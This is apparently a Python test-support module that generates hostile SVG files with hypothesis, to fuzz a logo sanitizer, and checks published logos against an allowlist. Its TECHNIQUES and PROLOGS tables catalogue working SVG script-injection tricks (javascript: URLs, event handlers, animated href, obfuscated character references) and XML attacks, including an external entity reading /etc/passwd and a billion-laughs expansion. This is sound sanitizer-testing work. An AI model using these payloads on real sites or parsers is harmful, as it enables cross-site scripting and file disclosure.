"""Hostile SVG logos as a hypothesis strategy, and a checker of a published logo that owes
nothing to generator/reading/svg_logo.py (issue 22).

Each technique is a fragment of an SVG document that runs script, or fetches, when the file
is opened in a browser; ``{js}`` in it is a ``javascript:`` URL and ``{code}`` a script,
spelled by :func:`spellings` with character references, tabs and letter cases. A document
puts a visible square and some techniques in an ``<svg>`` and is written in one of
:data:`ENCODINGS`. Every payload calls ``alert``, so a browser that runs one shows a dialog.
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ElementTree

from hypothesis import strategies as st

SVG = "http://www.w3.org/2000/svg"
XHTML = "http://www.w3.org/1999/xhtml"
XLINK = "http://www.w3.org/1999/xlink"
NAMESPACES = f'xmlns="{SVG}" xmlns:s="{SVG}" xmlns:h="{XHTML}" xmlns:xlink="{XLINK}"'
FULL = 'x="0" y="0" width="100%" height="100%"'
"""A technique that needs a click covers the whole picture, so a click anywhere is on it."""

CODE = "alert(1)"
JAVASCRIPT = "javascript:alert(1)"

TECHNIQUES: dict[str, str] = {
    # The eight ways round the old blocklist, as issue 22 lists them.
    "svg-prefixed-script": "<s:script>{code}</s:script>",
    "xhtml-prefixed-script": "<h:script>{code}</h:script>",
    "foreign-object-iframe": f'<s:foreignObject {FULL}><h:iframe src="{{js}}"/>'
                             "</s:foreignObject>",
    "link": f'<a href="{{js}}"><rect {FULL} fill="red"/></a>',
    "xlink-link": f'<a xlink:href="{{js}}"><rect {FULL} fill="red"/></a>',
    "animate-href": '<a><animate attributeName="href" values="{js}" dur="1s" fill="freeze"/>'
                    f'<rect {FULL} fill="red"/></a>',
    "set-href": f'<a><set attributeName="href" to="{{js}}"/><rect {FULL} fill="red"/></a>',
    # And more.
    "plain-script": "<script>{code}</script>",
    "cdata-script": "<script><![CDATA[{code}]]></script>",
    "typed-script": '<script type="application/ecmascript">{code}</script>',
    "script-href": '<script href="data:text/javascript,{code}"/>',
    "onload": '<g onload="{code}"><rect width="1" height="1"/></g>',
    "onclick": f'<rect {FULL} onclick="{{code}}"/>',
    "onmouseover": f'<rect {FULL} onmouseover="{{code}}"/>',
    "onfocusin": f'<rect {FULL} tabindex="0" onfocusin="{{code}}"/>',
    "onbegin": '<animate onbegin="{code}" attributeName="x" dur="1s"/>',
    "svg-prefixed-handler": f'<rect {FULL} s:onclick="{{code}}"/>',
    "xhtml-island": '<s:foreignObject width="10" height="10"><h:body><h:img src="x" '
                    'onerror="{code}"/></h:body></s:foreignObject>',
    "iframe-default-namespace": f'<iframe xmlns="{XHTML}" src="{{js}}"/>',
    "embed": '<h:embed src="{js}"/>',
    "object": '<h:object data="{js}"/>',
    "use-javascript": '<use href="{js}"/>',
    "use-external": '<use href="http://example.org/evil.svg#a"/>',
    "use-data": f'<use href="data:image/svg+xml,&lt;svg xmlns=&quot;{SVG}&quot; id=&quot;a'
                '&quot;&gt;&lt;script&gt;{code}&lt;/script&gt;&lt;/svg&gt;#a"/>',
    "image-external": '<image href="http://example.org/x.png" width="1" height="1"/>',
    "image-svg-data": '<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" width="1" '
                      'height="1"/>',
    "fe-image": '<filter id="f"><feImage href="{js}"/></filter>',
    "xml-base": f'<g xml:base="{{js}}"><a href="//x"><rect {FULL}/></a></g>',
    "animate-xlink-href": '<a xlink:href="#x"><animate attributeName="xlink:href" '
                          f'to="{{js}}" begin="0s" fill="freeze"/><rect {FULL}/></a>',
    "set-onclick": f'<rect {FULL}><set attributeName="onclick" to="{{code}}"/></rect>',
    "animate-values-handler": '<animate attributeName="onmouseover" values="{code}"/>',
    "animate-motion": '<animateMotion path="M0 0"><mpath href="{js}"/></animateMotion>',
    "style-url": '<rect width="1" height="1" style="fill:url({js})"/>',
    "style-escaped-url": '<rect width="1" height="1" style="fill:u\\72l({js})"/>',
    "style-import": '<style>@import url("{js}"); rect {{ fill: url({js}) }}</style>',
    "style-cdata": "<style><![CDATA[rect {{ background: url({js}) }}]]></style>",
    "style-class-url": '<style>.k {{ fill: url({js}) }} .k {{ stroke: u\\72l({js}) }}'
                       '</style><rect class="k" width="1" height="1"/>',
    "style-name-url": '<style>rect {{ fill: url({js}); background-image: url({js}) }}'
                      '</style>',
    "style-class-handler": '<style>.h {{ fill: red }}</style><rect class="h" width="1" '
                           'height="1" onclick="{code}"/>',
    "fill-url": '<rect width="1" height="1" fill="url({js})"/>',
    "fill-external-url": '<rect width="1" height="1" fill="url(http://example.org/p.svg#p)"/>',
    "mask-external": '<rect width="1" height="1" mask="url(http://example.org/m.svg#m)"/>',
    "handler-element": '<handler type="application/ecmascript">{code}</handler>',
    "listener": '<listener event="click" handler="#h"/>',
    "discard": '<discard href="{js}"/>',
    "processing-instruction": '<?xml-stylesheet type="text/xsl" href="{js}"?>',
    "comment-script": "<!-- <script>{code}</script> -->",
    "text-link": f'<text x="1" y="9"><a href="{{js}}"><tspan {FULL}>click</tspan></a></text>',
    "text-path-javascript": '<text><textPath href="{js}">go</textPath></text>',
    "gradient-javascript": '<linearGradient id="g" href="{js}"/>',
    "namespaced-attribute-href": f'<a s:href="{{js}}"><rect {FULL}/></a>',
}
"""Fragments inside the root ``<svg>``."""

ISSUE_TECHNIQUES = ("svg-prefixed-script", "xhtml-prefixed-script", "foreign-object-iframe",
                    "link", "xlink-link", "animate-href", "set-href")
"""Issue 22's bypasses of the old blocklist; the eighth, UTF-16 without a byte order mark,
is tests/reading/test_svg_logo.py."""

ISSUE_SPELLINGS = {"js": "javascript&#58;alert(1)", "code": CODE}
"""As the issue spelled them: ``&#58;`` for the colon."""


PROLOGS: dict[str, str] = {
    "none": "",
    "entity": '<!DOCTYPE svg [<!ENTITY x "{code}">]>',
    "billion-laughs": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;'
                      '&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
                      '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    "external-entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "parameter-entity": '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://example.org/x.dtd">%p;]>',
    "public-doctype": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                      '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    "stylesheet": '<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>',
}
"""What may come before the root element (after the XML declaration)."""

ROOT_ATTRIBUTES = ("", ' onload="{code}"', ' xml:base="{js}"', ' s:onload="{code}"',
                   ' style="background:url({js})"', ' h:onload="{code}"')

ENCODINGS: dict[str, tuple[str, bytes, bool]] = {
    # name: (codec, byte order mark, whether the XML declaration names the encoding)
    "utf-8": ("utf-8", b"", False),
    "utf-8-declared": ("utf-8", b"", True),
    "utf-8-bom": ("utf-8", b"\xef\xbb\xbf", False),
    "utf-16le-bom": ("utf-16-le", b"\xff\xfe", True),
    "utf-16be-bom": ("utf-16-be", b"\xfe\xff", False),
    "utf-16le": ("utf-16-le", b"", False),
    "utf-16be": ("utf-16-be", b"", True),
    "utf-32le-bom": ("utf-32-le", b"\xff\xfe\x00\x00", True),
    "latin-1-declared": ("latin-1", b"", True),
    "windows-1252-declared": ("cp1252", b"", True),
}
_DECLARED = {"utf-16-le": "UTF-16", "utf-16-be": "UTF-16", "utf-32-le": "UTF-32",
             "latin-1": "ISO-8859-1", "cp1252": "windows-1252", "utf-8": "UTF-8"}


def _character(character: str, form: int) -> str:
    """One character of a payload in one of the forms XML (or a lax reader) accepts."""
    code = ord(character)
    return (character, f"&#{code};", f"&#x{code:x};", f"&#x{code:X};", f"&#0000{code};",
            f"&#x00{code:x};", character.swapcase())[form]


@st.composite
def spellings(draw: st.DrawFn, text: str) -> str:
    """``text`` with each character written literally or as a character reference (decimal,
    hex, leading zeros), in either case, with tabs or newlines slipped in."""
    written = []
    for character in text:
        form = draw(st.integers(0, 6)) if draw(st.booleans()) else 0
        written.append(_character(character, form))
        if draw(st.integers(0, 9)) == 0:
            written.append(draw(st.sampled_from(("&#x09;", "&#10;", "\t", "&#x0D;"))))
    return "".join(written)


@st.composite
def hostile_svgs(draw: st.DrawFn) -> tuple[str, bytes]:
    """(a description, the bytes of an SVG file) holding one to three techniques."""
    names = draw(st.lists(st.sampled_from(sorted(TECHNIQUES)), min_size=1, max_size=3))
    prolog_name = draw(st.sampled_from(sorted(PROLOGS)))
    encoding_name = draw(st.sampled_from(sorted(ENCODINGS)))
    codec, bom, declared = ENCODINGS[encoding_name]

    def filled(template: str) -> str:
        # The script text of an element stays literal (a reference there is text, not
        # markup); the URLs and handlers are spelled.
        return template.format(js=draw(spellings(JAVASCRIPT)), code=draw(spellings(CODE)))

    fragments = "".join(filled(TECHNIQUES[name]) for name in names)
    if prolog_name == "entity":
        fragments += "<text>&x;</text>"
    root = filled(draw(st.sampled_from(ROOT_ATTRIBUTES)))
    prefixed = draw(st.booleans())
    tag = "s:svg" if prefixed else "svg"
    document = (f"{filled(PROLOGS[prolog_name])}<{tag} {NAMESPACES}{root}>"
                f'<rect width="10" height="10" fill="navy"/>{fragments}</{tag}>')
    if declared:
        document = f'<?xml version="1.0" encoding="{_DECLARED[codec]}"?>' + document
    description = f"{'+'.join(names)} / {prolog_name} / {encoding_name}"
    return description, bom + document.encode(codec, errors="xmlcharrefreplace")


# The checker: what a published logo may hold, written from the SVG specification alone.

CHECKED_ELEMENTS = frozenset((
    "svg", "g", "defs", "symbol", "use", "switch", "title", "desc",
    "path", "rect", "circle", "ellipse", "line", "polyline", "polygon",
    "text", "tspan", "textPath",
    "linearGradient", "radialGradient", "stop", "pattern", "clipPath", "mask", "marker",
    "filter", "feBlend", "feColorMatrix", "feComponentTransfer", "feComposite",
    "feConvolveMatrix", "feDiffuseLighting", "feDisplacementMap", "feDistantLight",
    "feDropShadow", "feFlood", "feFuncA", "feFuncB", "feFuncG", "feFuncR", "feGaussianBlur",
    "feMerge", "feMergeNode", "feMorphology", "feOffset", "fePointLight",
    "feSpecularLighting", "feSpotLight", "feTile", "feTurbulence"))
"""SVG elements that neither run, animate, fetch nor hold another language."""

_ANIMATION_ATTRIBUTES = frozenset(("attributeName", "to", "from", "by", "begin", "end",
                                   "dur", "keyTimes", "event", "handler"))
_URL = re.compile(r"url\(\s*['\"]?([^'\")]*)", re.IGNORECASE)


def live_parts(data: bytes) -> list[str]:
    """Everything in a published logo that could run, fetch or animate; [] for a clean one.

    Read with the standard library's parser: a published logo has no DTD to expand."""
    found: list[str] = []
    if not data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>'):
        found.append("no UTF-8 declaration at the start")
    text = data.decode("utf-8")
    if "<!" in text:
        found.append("a DOCTYPE, comment or CDATA section")
    if text.count("<?") != 1:
        found.append("a processing instruction")
    # The one address a logo names is its namespace, on the root (nowhere else).
    text = text.replace(f' xmlns="{SVG}"', "", 1)
    squeezed = re.sub(r"[\x00-\x20]", "", text).lower()
    for word in ("javascript", "vbscript", "data:", "http:", "https:", "//"):
        if word in squeezed:
            found.append(f"{word!r} in the file")
    root = ElementTree.fromstring(data)
    for element in root.iter():
        namespace, _, name = element.tag[1:].partition("}")
        if namespace != SVG or name not in CHECKED_ELEMENTS:
            found.append(f"element {element.tag}")
        for attribute, value in element.attrib.items():
            local = attribute.rsplit("}", 1)[-1]
            if attribute.startswith("{") and attribute != \
                    "{http://www.w3.org/XML/1998/namespace}space":
                found.append(f"namespaced attribute {attribute}")
            if local.lower().startswith("on") or local in _ANIMATION_ATTRIBUTES:
                found.append(f"attribute {attribute}")
            if local == "values" and name != "feColorMatrix":
                found.append(f"values on {name}")
            if local == "href" and not re.fullmatch(r"#[A-Za-z_][\w.-]*", value):
                found.append(f"href {value!r}")
            for target in _URL.findall(value):
                if not target.strip().startswith("#"):
                    found.append(f"url({target!r})")
            if "\\" in value:
                found.append(f"a CSS escape in {attribute}")
    return found


def elements_and_attributes(data: bytes) -> list[tuple[str, dict[str, str]]]:
    """Each element of an SVG file in document order, with its attributes, read by the
    standard library (for comparing a logo before and after it is cleaned)."""
    root = ElementTree.fromstring(data)
    return [(element.tag, {name.replace(f"{{{XLINK}}}", ""): " ".join(value.split())
                           for name, value in element.attrib.items()})
            for element in root.iter()]


# A logo as an editor saves it: metadata of its own, gradients, a clip, a filter, uses, text.
REAL_LOGO = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   width="120" height="40" viewBox="0 0 120 40" sodipodi:docname="club.svg">
  <title>Gros Chess Club</title>
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" inkscape:zoom="2"/>
  <metadata><rdf:RDF><rdf:Description about="club"/></rdf:RDF></metadata>
  <defs>
    <linearGradient id="gold" x1="0" y1="0" x2="0" y2="1">
      <stop offset="0" stop-color="#f6d365"/>
      <stop offset="1" style="stop-color:#fda085;stop-opacity:1"/>
    </linearGradient>
    <radialGradient id="glow" xlink:href="#gold" cx="0.5" cy="0.5" r="0.5"/>
    <clipPath id="board"><rect width="36" height="36" rx="4"/></clipPath>
    <filter id="shadow"><feDropShadow dx="0" dy="1" stdDeviation="0.5"
      flood-opacity="0.4"/></filter>
    <path id="pawn" d="M18 6a5 5 0 1 1 0 10a5 5 0 1 1 0-10zM11 30h14l-3-12h-8z"/>
  </defs>
  <g id="mark" transform="translate(2 2)" clip-path="url(#board)" inkscape:label="Mark">
    <rect width="36" height="36" fill="url(#gold)"/>
    <use href="#pawn" fill="#222" filter="url(#shadow)"/>
    <use xlink:href="#pawn" x="12" fill="#fff" opacity=".8"/>
    <circle cx="30" cy="8" r="3" fill="url('#glow')" stroke="#222" stroke-width="0.5"/>
  </g>
  <text x="44" y="26" font-family="'Open Sans', sans-serif" font-size="14"
    font-weight="700" fill="#222">Gros <tspan fill="#c33">Chess</tspan> Club</text>
</svg>
"""


# A logo as another editor saves it: its colours in a style sheet, one class per shape.
STYLED_LOGO = f"""<?xml version="1.0" encoding="UTF-8"?>
<svg id="Layer_1" data-name="Layer 1" xmlns="{SVG}" viewBox="0 0 120 40" width="120"
  height="40">
  <defs><style>.cls-1{{fill:#231f20;}}.cls-2,.cls-3{{fill:#c1272d;stroke:#000;
  stroke-miterlimit:10;stroke-width:2px;}}.cls-3{{fill:none;}}
  /* Generator: an editor */ text {{ font-family: sans-serif; font-size: 12px }}</style>
  </defs>
  <title>Club</title>
  <rect class="cls-1" width="40" height="40" rx="6"/>
  <circle class="cls-2" cx="60" cy="20" r="15"/>
  <circle class="cls-3 cls-2" cx="90" cy="20" r="10" style="stroke:#1d71b8"/>
  <text class="cls-1" x="4" y="36">GCC</text>
</svg>
"""
